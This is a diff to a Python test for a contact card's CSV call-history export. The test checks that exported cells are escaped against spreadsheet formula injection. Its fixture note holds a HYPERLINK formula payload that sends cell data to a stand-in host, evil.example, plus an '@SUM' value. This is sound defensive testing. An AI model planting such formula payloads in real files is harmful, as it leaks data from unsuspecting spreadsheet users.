@@ -470,6 +470,8 @@ def test_export_csv_writes_the_shown_calls_without_link_tokens(qtbot, ctx, qloop
     contact_id = save_contact(ctx, qloop)
     client_history(send)
     run(qloop, ctx.api.engine.store.write(lambda s: s.notes.set("ans-1", "Agreed", "Sale", time.time())))
+    run(qloop, ctx.api.engine.store.write(
+        lambda s: s.notes.set("miss-1", '=HYPERLINK("http://evil.example/?d="&A1)', "@SUM(1)", time.time())))
     card = open_card(qtbot, ctx, qloop, contact_id)
     target = tmp_path / "calls.csv"
     card.export_csv(target)
@@ -480,8 +482,11 @@ def test_export_csv_writes_the_shown_calls_without_link_tokens(qtbot, ctx, qloop
     assert [(r["call_ref"], r["direction"], r["status"], r["recording"]) for r in table] == [
         ("miss-1", "incoming", "missed", "no"), ("ans-1", "incoming", "answered", "yes"),
         ("out-3d", "outgoing", "no_answer", "no")]
-    assert table[1]["number"] == CLIENT_SHOWN and table[1]["billsec"] == "50" and table[1]["duration"] == "55"
+    # a number stays readable, marked as text ("+7 …" would be computed); no cell starts a formula
+    assert table[1]["number"] == "'" + CLIENT_SHOWN and table[1]["billsec"] == "50" and table[1]["duration"] == "55"
     assert (table[1]["outcome"], table[1]["note"]) == ("Sale", "Agreed")
+    assert (table[0]["outcome"], table[0]["note"]) == ("'@SUM(1)", '\'=HYPERLINK("http://evil.example/?d="&A1)')
+    assert not [c for r in csv.reader(io.StringIO(data)) for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
     # the button asks for a file (without a nested event loop); the filters apply to the export
     card.direction_combo.setCurrentIndex(card.direction_combo.findText("Outgoing"))
